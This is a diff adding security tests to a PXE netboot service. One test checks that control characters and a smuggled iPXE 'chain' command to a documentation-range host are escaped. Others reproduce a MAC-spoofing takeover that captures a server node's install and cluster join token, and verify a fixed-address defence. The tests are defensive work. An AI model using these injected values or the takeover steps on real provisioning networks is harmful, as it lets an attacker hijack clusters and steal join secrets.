@@ -232,6 +232,30 @@ async def test_discovery_ignore_records_the_machine_and_exits(env: Env) -> None:
     assert await kinds(env) == ["discovered"]
 
 
+async def test_control_characters_a_stranger_sends_are_kept_escaped(
+        make_env: EnvFactory) -> None:
+    """Anyone may send ``/ipxe?mac=…&serial=…``: the serial and asset tag become the
+    discovered machine's identity, the other strings its facts, and the API, the dashboard,
+    ``netboot machines show`` and site templates write them out. A line break or an ESC in
+    them forged lines of an operator's terminal or of a script rendered with
+    ``machine.serial``; they are kept escaped, the platform bounded like the others
+    (s36-attack)."""
+    env = await make_env("discovery:\n  policy: hold\n")
+    await env.seed()
+    await boot(env, HEXHYP, serial="AB\nchain http://198.51.100.9/x\x1b[2J",
+               asset="\x07ta\u2028g", product="P\r\nQ", manufacturer="Dell Inc.",
+               platform="efi\nchain http://198.51.100.9/" + "p" * 300)
+    machine = await env.get(f"/api/v1/machines/{MAC}")
+    assert machine["serial"] == "AB\\x0achain http://198.51.100.9/x\\x1b[2J"
+    assert machine["asset"] == "\\x07ta\\u2028g"
+    assert machine["facts"]["product"] == "P\\x0d\\x0aQ"
+    assert machine["facts"]["manufacturer"] == "Dell Inc."  # printable: as it came
+    platform = machine["facts"]["platform"]
+    assert platform.startswith("efi\\x0achain http://198.51.100.9/pp") and len(platform) == 128
+    strings = [machine["serial"], machine["asset"], *machine["facts"].values()]
+    assert all(text.isprintable() for text in strings), strings
+
+
 async def test_discovery_hold_then_approve_then_install(make_env: EnvFactory) -> None:
     env = await make_env("discovery:\n  policy: hold\n  hold_retry_seconds: 20\n")
     await env.seed()
@@ -918,3 +942,153 @@ async def test_a_machines_reports_past_its_budget_are_refused_and_told_once(
     outcomes = [a.outcome for a in (await env.service.store.list_audit())[audited:]
                 if "/events" in a.action]
     assert sorted(outcomes) == ["201", "201", "201", "429"], outcomes
+
+
+# --- what a host that knows a machine's MAC can take (s36-claim) ---------------------------
+
+DNS_ZONE = "dns:\n  enabled: true\n  listen: 127.0.0.1\n  port: 0\n  zone: netboot.lan\n"
+SERVER, AGENT = "52:54:00:00:07:01", "52:54:00:00:07:02"
+ATTACKER, DEVICE = "127.0.0.66", "127.0.0.7"  # the test server listens on 127.0.0.1
+
+
+async def from_address(env: Env, source: str, method: str, path: str,
+                       body: Any = None) -> tuple[int, str]:
+    """A device request sent from ``source`` (another loopback address): its status and
+    text. No admin token: what any host on the provisioning VLAN can send."""
+    import aiohttp
+
+    connector = aiohttp.TCPConnector(local_addr=(source, 0))
+    async with aiohttp.ClientSession(connector=connector) as http, http.request(
+            method, f"http://{env.client.host}:{env.client.port}{path}", json=body) as r:
+        return r.status, await r.text()
+
+
+async def cluster_address(env: Env) -> list[str]:
+    """What netboot's DNS answers for the cluster's name (``edge.netboot.lan``), asked over
+    real UDP of a DNS server on the service's zone."""
+    import dns.asyncquery
+    import dns.message
+
+    from netboot.names import ZoneHolder
+    from netboot.servers.dns import DnsServer
+
+    server = DnsServer(ZoneHolder(await env.service._build_zone()), host="127.0.0.1", port=0)
+    await server.start()
+    try:
+        reply = await dns.asyncquery.udp(dns.message.make_query("edge.netboot.lan", "A"),
+                                         "127.0.0.1", port=server.port, timeout=5)
+    finally:
+        await server.close()
+    return sorted(item.address for rrset in reply.answer for item in rrset)
+
+
+async def take(env: Env, source: str, mac: str, claim: str) -> tuple[str, int]:
+    """What a host at ``source`` that knows ``mac`` does: asks the machine's install script
+    as its iPXE would, fetches the config with the token in it, and registers the machine,
+    reporting ``claim`` as its address (the request's own loopback address is not
+    routable, so the report is what registers: as behind a proxy on netboot's host; on a
+    VLAN, the host's own address is). The script, and the registration's status."""
+    status, script = await from_address(env, source, "GET", f"/ipxe?mac={mac}&arch=x86_64")
+    assert status == 200, script
+    if "kernel" not in script:
+        return script, 0
+    token = install_token(script)
+    status, config = await from_address(env, source, "GET",
+                                        f"/config/{mac.replace(':', '-')}?token={token}")
+    assert status == 200 and k3os(config)["k3os"]["token"], config  # the cluster's join token
+    status, _ = await from_address(env, source, "POST", "/api/v1/register",
+                                   {"mac": mac, "token": token, "addresses": [claim]})
+    return script, status
+
+
+async def agent_config(env: Env) -> dict[str, Any]:
+    """The config the next agent of the cluster gets, booting from its own address."""
+    status, script = await from_address(env, "127.0.0.5", "GET", f"/ipxe?mac={AGENT}&arch=x86_64")
+    assert status == 200, script
+    return k3os(await env.get(f"/config/{AGENT.replace(':', '-')}?token={install_token(script)}"))
+
+
+async def two_nodes(env: Env, fixed: str | None = None) -> None:
+    await env.seed(server_url="managed")
+    server: dict[str, Any] = {"mac": SERVER, "hostname": "srv", "cluster": "edge",
+                              "role": "server"}
+    if fixed:
+        server["fixed_ipv4"] = fixed
+    await env.post("/api/v1/machines", server, status=201)
+    await env.post("/api/v1/machines", {"mac": AGENT, "hostname": "agt", "cluster": "edge",
+                                        "role": "agent"}, status=201)
+
+
+async def test_who_knows_a_server_nodes_mac_first_takes_its_install_and_the_cluster_name(
+        make_env: EnvFactory) -> None:
+    """The honest limit of unauthenticated PXE, as it stands for a machine without a fixed
+    address: a host that saw a server node's MAC (any DHCP broadcast shows it) and asks
+    before the device does gets its install token and its config (the cluster's join token),
+    and registers it at an address of its own: the cluster's DNS name answers that address
+    and the next agent is sent there with the join token. The real device is then told to
+    boot its disk (its install is gone, it never joins). What netboot can do about it is
+    the fixed address (the next test) or a configured endpoint; README's "What a host on
+    the provisioning network can take" says so."""
+    env = await make_env(DNS_ZONE)
+    await two_nodes(env)
+    _, status = await take(env, ATTACKER, SERVER, "198.51.100.66")
+    assert status == 200
+    assert await cluster_address(env) == ["198.51.100.66"]
+    agent = await agent_config(env)
+    assert agent["k3os"]["server_url"] == "https://edge.netboot.lan:6443"
+    status, script = await from_address(env, DEVICE, "GET", f"/ipxe?mac={SERVER}&arch=x86_64")
+    assert "kernel" not in script and script.rstrip().endswith("exit"), script
+    # Its one trace, in its script and its event: where its install went.
+    said = (f"its install was served to {ATTACKER}, this request came from {DEVICE}: if this "
+            "device never installed, another host took its install")
+    assert said in script, script
+    local = [e for e in await env.get(f"/api/v1/machines/{SERVER}/events")
+             if e["kind"] == "local-boot"]
+    assert len(local) == 1 and said in local[0]["message"], local
+    # The host that took it, booting as the machine, is told nothing of the kind.
+    status, script = await from_address(env, ATTACKER, "GET", f"/ipxe?mac={SERVER}&arch=x86_64")
+    assert "served to" not in script and script.rstrip().endswith("exit"), script
+
+
+async def test_a_fixed_address_keeps_a_server_nodes_install_and_the_cluster_name_its_own(
+        make_env: EnvFactory) -> None:
+    """A server node given a fixed address: the host that knows its MAC is held without a
+    token (so without the config and its join token), told once in a ``token withheld``
+    event; the device at its address installs and registers, and the cluster's name answers
+    that address whatever the registration reports."""
+    env = await make_env(DNS_ZONE)
+    await two_nodes(env, fixed=DEVICE)
+    for _ in range(2):
+        script, status = await take(env, ATTACKER, SERVER, "198.51.100.66")
+        assert "kernel" not in script and status == 0, script
+        assert f"fixed address {DEVICE}" in script
+    assert await state(env, SERVER) == "enrolled"
+    withheld = [e for e in await env.get(f"/api/v1/machines/{SERVER}/events")
+                if e["kind"] == "token withheld"]
+    assert len(withheld) == 1 and ATTACKER in withheld[0]["message"], withheld
+    assert withheld[0]["data"]["peer"] == ATTACKER
+    script, status = await take(env, DEVICE, SERVER, "198.51.100.66")
+    assert status == 200
+    machine = await env.get(f"/api/v1/machines/{SERVER}")
+    assert machine["state"] == "registered" and machine["ipv4"] == DEVICE
+    assert await cluster_address(env) == [DEVICE]
+    agent = await agent_config(env)
+    assert agent["k3os"]["server_url"] == "https://edge.netboot.lan:6443"
+
+
+async def test_a_machine_with_a_fixed_address_registers_that_address(env: Env) -> None:
+    """Its install token is served only at its fixed address, but a registration's peer
+    and report are still claims (another NIC, a proxy on netboot's host): the address
+    registered, the one agents are sent to, is the fixed one, and the event says where the
+    request came from."""
+    await two_nodes(env, fixed=DEVICE)
+    _, script = await from_address(env, DEVICE, "GET", f"/ipxe?mac={SERVER}&arch=x86_64")
+    token = install_token(script)
+    await register(env, token, "198.51.100.66", mac=SERVER)
+    machine = await env.get(f"/api/v1/machines/{SERVER}")
+    assert machine["ipv4"] == DEVICE, machine
+    registered = [e for e in await env.get(f"/api/v1/machines/{SERVER}/events")
+                  if e["kind"] == "registered"]
+    assert f"registered at {DEVICE} (its fixed address" in registered[0]["message"]
+    agent = await agent_config(env)
+    assert agent["k3os"]["server_url"] == f"https://{DEVICE}:6443"
